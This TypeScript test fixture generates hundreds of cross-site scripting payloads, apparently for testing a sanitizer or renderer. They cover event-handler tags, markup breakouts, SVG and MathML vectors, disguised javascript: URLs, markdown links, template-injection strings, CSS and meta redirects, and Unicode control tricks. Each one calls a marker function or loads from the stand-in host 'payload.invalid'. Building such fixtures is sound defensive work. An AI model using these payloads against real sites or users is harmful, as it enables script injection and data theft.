// Texts that would run a script, load something or make an element if anything took them for markup. Each calls `pwned(n)` or asks
// for `stranger`; all were written for these tests.

/** A host that must never be asked. */
export const stranger = 'payload.invalid';

const tags = [
  'img',
  'image',
  'video',
  'audio',
  'input',
  'body',
  'iframe',
  'object',
  'embed',
  'link',
  'style',
  'details',
];
const handlers = [
  'onerror',
  'onload',
  'onfocus',
  'onmouseover',
  'ontoggle',
  'onanimationstart',
  'onpointerenter',
];
const before = ['', '">', "'>", '</title>', '</textarea>', '</script>', '-->', ']]>', '`', '\\u003c'];

type Make = (call: string) => string;

/** Every tag with every handler. */
const attributes: Make[] = tags.flatMap((tag) =>
  handlers.map(
    (handler): Make =>
      (call) =>
        `<${tag} src=x href=x data=x open autofocus ${handler}=${call}>`,
  ),
);

/** Ways out of a place in markup, then a script. */
const breakouts: Make[] = before.flatMap((end): Make[] => [
  (call) => `${end}<script>${call}</script>`,
  (call) => `${end}<svg onload=${call}>`,
  (call) => `${end}<svg><script>${call}</script></svg>`,
  (call) => `${end}<img src="https://${stranger}/?${call}" onerror="${call}">`,
]);

const inSvg: Make[] = [
  'animate',
  'set',
  'animateTransform',
  'a',
  'use',
  'foreignObject',
  'feImage',
  'image',
].flatMap((tag): Make[] => [
  (call) =>
    `<svg><${tag} href="javascript:${call}" onbegin="${call}" dur="1s"><text y="9">go</text></${tag}></svg>`,
  (call) => `<svg><${tag} xlink:href="https://${stranger}/x.svg#${call}"/></svg>`,
]);

const inMathMl: Make[] = ['mtext', 'maction', 'annotation-xml', 'mglyph', 'mi'].flatMap((tag): Make[] => [
  (call) => `<math><${tag}><style><img src=x onerror="${call}"></style></${tag}></math>`,
  (call) => `<math href="javascript:${call}"><${tag}>click</${tag}></math>`,
]);

/** Addresses that run something, in several disguises. */
const disguised: Make[] = [
  (call) => `javascript:${call}`,
  (call) => `JaVaScRiPt:${call}`,
  (call) => `java\tscript:${call}`,
  (call) => `\u0001javascript:${call}`,
  (call) => `&#106;avascript:${call}`,
  (call) => `data:text/html,<script>${call}</script>`,
  (call) => `vbscript:${call}`,
];
const addresses = disguised.flatMap((address): Make[] => [
  address,
  (call) => `<a href="${address(call)}">open</a>`,
  (call) => `[open](${address(call)})`,
  (call) => `<iframe src="${address(call)}"></iframe>`,
]);

const markdown: Make[] = [
  (call) => `![x](https://${stranger}/${call}.png)`,
  (call) => `![x](https://${stranger}/?q=${call} "title")`,
  (call) => `[![x](https://${stranger}/i.png)](javascript:${call})`,
  (call) => `<https://${stranger}/${call}>`,
  (call) => `[ref]: javascript:${call}\n[click][ref]`,
  (call) => `\`\`\`html\n<script>${call}</script>\n\`\`\``,
];

/** What templates of frameworks would run. */
const templates: Make[] = [
  (call) => `{${call}}`,
  (call) => `{{${call}}}`,
  (call) => `{{constructor.constructor('${call}')()}}`,
  (call) => `\${${call}}`,
  (call) => `#{${call}}`,
  (call) => `<%= ${call} %>`,
  (call) => `{@html "<img src=x onerror=${call}>"}`,
  (call) => `[[${call}]]`,
  (call) => `{{#with "s"}}{{${call}}}{{/with}}`,
  (call) => `*{${call}}`,
];

const styles: Make[] = [
  () => `<style>@import 'https://${stranger}/a.css';</style>`,
  () => `<div style="background:url(https://${stranger}/b.png)">x</div>`,
  () => `</style><link rel=stylesheet href=https://${stranger}/c.css>`,
  () => `<link rel=prefetch href=https://${stranger}/d>`,
  () => `<meta http-equiv=refresh content="0;url=https://${stranger}/e">`,
  () => `<base href=https://${stranger}/>`,
  () => `<form action=https://${stranger}/f><button>go</button></form>`,
  (call) => `<x style="animation:a" onanimationend="${call}">`,
];

/** Directions, surrogates, control signs: what else turns a text around. */
const signs: Make[] = [
  (call) => `\u202E<script>${call}</script>\u202C`,
  (call) => `\u2066<img src=x onerror=${call}>\u2069`,
  (call) => `\uFEFF<svg onload=${call}>`,
  (call) => `<\u200Bscript>${call}</script>`,
  (call) => `\uFF1Cscript\uFF1E${call}\uFF1C/script\uFF1E`,
  (call) => `<scr\u0000ipt>${call}</scr\u0000ipt>`,
  (call) => `\uD800<img src=x onerror=${call}>`,
  (call) => `__proto__<script>${call}</script>`,
];

const kinds = [attributes, breakouts, inSvg, inMathMl, addresses, markdown, templates, styles, signs];

/** All of them, each with a number of its own. */
export const payloads: readonly string[] = kinds.flat().map((make, i) => make(`pwned(${i})`));
